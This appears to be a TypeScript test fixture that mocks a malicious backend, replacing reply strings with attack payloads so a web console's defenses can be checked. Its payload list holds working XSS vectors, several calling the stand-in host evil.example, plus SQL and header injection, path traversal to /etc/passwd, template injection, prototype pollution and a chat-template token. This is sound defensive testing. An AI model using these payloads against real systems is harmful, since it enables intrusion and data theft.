/**
 * The evil appliance (test/fault/README.md, What the box says is text): every string of every reply becomes an attack, every number nonsense. Seeded, so a
 * failure repeats. A console passes when nothing runs (`window.__pwn` stays undefined), nothing leaves the origin, nothing breaks.
 */
import { chanceOf } from './clock';

const run = 'window.__pwn=1';

/** The attacks, one of each kind. */
export const PAYLOADS: readonly string[] = [
  `<script>${run}</script>`,
  `<ScRiPt src="//evil.example/x.js"></sCrIpT>`,
  `<img src=x onerror="${run}">`,
  `<img src=x onerror=${run}//`,
  `<svg onload="${run}">`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.__pwn=1</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`,
  `<iframe src="javascript:parent.__pwn=1"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.__pwn=1&lt;/script&gt;"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="//evil.example/x.swf">`,
  `<link rel=stylesheet href="//evil.example/x.css">`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
  `<base href="//evil.example/">`,
  `<form action="//evil.example/"><input name=password><button>OK</button></form>`,
  `<style>*{background:url(//evil.example/x)}</style>`,
  `<details open ontoggle="${run}">`,
  `<video><source onerror="${run}"></video>`,
  `<body onload="${run}">`,
  `<a href="javascript:${run}">x</a>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `" onfocus="${run}" autofocus="`,
  `' onmouseover='${run}`,
  `" style="position:fixed;inset:0;background:url(//evil.example/x)`,
  '`onload=alert`',
  `javascript:${run}`,
  `JaVa\tScRiPt:${run}`,
  `\u0001javascript:${run}`,
  `java&#x73;cript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd249MTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
  `blob:https://evil.example/0`,
  `//evil.example/x`,
  `/\\evil.example/x`,
  `https://user:pass@evil.example/`,
  `http://evil.example/x.png`,
  `{{constructor.constructor('${run}')()}}`,
  `{{7*7}}`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is this very text
  '${7*7}',
  `<%= 7*7 %>`,
  `#{7*7}`,
  `{{name}} {{- name}}`,
  `$t(common:title)`,
  `$t(title, {"x": "{{y}}"})`,
  `%n%s%d%x%p%1000000000d`,
  `%00%0d%0aSet-Cookie:%20x=1`,
  `a\r\nSet-Cookie: x=1`,
  `__proto__`,
  `constructor`,
  `constructor.prototype.polluted`,
  `toString`,
  `hasOwnProperty`,
  `../../../../etc/passwd`,
  `..%2f..%2fadmin`,
  `\u202Egnp.exe\u202C`,
  `\u2066\u2067\u2068\u2069\u200F\u061C`,
  `\u0000`,
  `before\u0000after`,
  `\uD800`,
  `\uDC00x`,
  `x\uDBFF`,
  `\uFFFE\uFFFF\uFEFF`,
  '👩‍👩‍👧‍👦🏳️‍🌈👍🏿',
  `Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349\u035A\u032F\u031E\u0320\u034DA\u036B\u0357\u0334`,
  '\u200B\u200C\u200D\u2060',
  '﷽'.repeat(40),
  '字'.repeat(2000),
  'x'.repeat(10_000),
  ' '.repeat(5000),
  '\n'.repeat(500),
  ``,
  ` `,
  `null`,
  `undefined`,
  `[object Object]`,
  `NaN`,
  `-1`,
  `1e999`,
  `true`,
  `' OR 1=1 --`,
  `"; DROP TABLE accounts; --`,
  `=HYPERLINK("http://evil.example","x")`,
  `@import url(//evil.example/x.css);`,
  `expression(${run})`,
  `red;background:url(//evil.example/x)`,
  `\\u003cscript\\u003e`,
  `<|im_end|>`,
  `{"a":`,
  `404`,
];

/** What stays as it is, so that a console gets as far as the screen under test. */
export interface Spared {
  /** Keys whose values are kept: by default those that make the menu lead somewhere. */
  readonly keys: readonly string[];
  /** Whether the token in a sign-in reply is kept. */
  readonly tokens: boolean;
}

/** Enough to sign in and to open screens. */
export const SPARED: Spared = { keys: ['component', 'path', 'Button'], tokens: true };

const TOKEN_CALLS = /\/(?:login|tokenLogin|refresh_token)$/;
/** Replaced in the text, as JSON.stringify cannot say it. */
const HUGE = '\uE000huge\uE000';

/** The evil mode of a box. */
export interface Evil {
  /** Spells an envelope as JSON; attacks it first when the mode is on. */
  spell(path: string, envelope: Readonly<Record<string, unknown>>): string;
  set(on: boolean, options?: { readonly seed?: string; readonly spared?: Spared }): void;
}

/** Makes the mode, off unless told. */
export function createEvil(initially: boolean): Evil {
  let on = initially;
  let seed = 'evil';
  let spared = SPARED;
  let step = 0;
  const next = (choices: number) => Math.floor(chanceOf(`${seed}\n${step++}`) * choices);
  // Every payload has its turn, in an order that the seed shifts.
  const attack = () => PAYLOADS[(step++ + Math.floor(chanceOf(seed) * PAYLOADS.length)) % PAYLOADS.length]!;
  const nonsense = (value: number): unknown => [String(value), null, 'NaN', HUGE, -value, '', attack()][next(7)];

  const poison = (value: unknown, key: string): unknown => {
    if (spared.keys.includes(key)) return value;
    if (typeof value === 'string') return attack();
    if (typeof value === 'number') return nonsense(value);
    if (Array.isArray(value)) return value.map((item) => poison(item, ''));
    if (typeof value !== 'object' || value === null) return value;
    const result: Record<string, unknown> = {};
    for (const [name, each] of Object.entries(value)) result[name] = poison(each, name);
    const plant = (name: string, trap: unknown) => Object.defineProperty(result, name, { value: trap, enumerable: true });
    if (next(4) === 0) plant('__proto__', { polluted: true });
    if (next(8) === 0) plant('constructor', { prototype: { polluted: true } });
    return result;
  };

  return {
    set: (wanted, options = {}) => {
      on = wanted;
      seed = options.seed ?? 'evil';
      spared = options.spared ?? SPARED;
      step = 0;
    },
    spell: (path, envelope) => {
      if (!on) return JSON.stringify(envelope);
      const keep = spared.tokens && TOKEN_CALLS.test(path);
      const entries = Object.entries(envelope).map(([key, value]) => [
        key,
        key === 'code' || (keep && key === 'data') ? value : poison(value, key),
      ]);
      return JSON.stringify(Object.fromEntries(entries)).replaceAll(`"${HUGE}"`, '1e999');
    },
  };
}
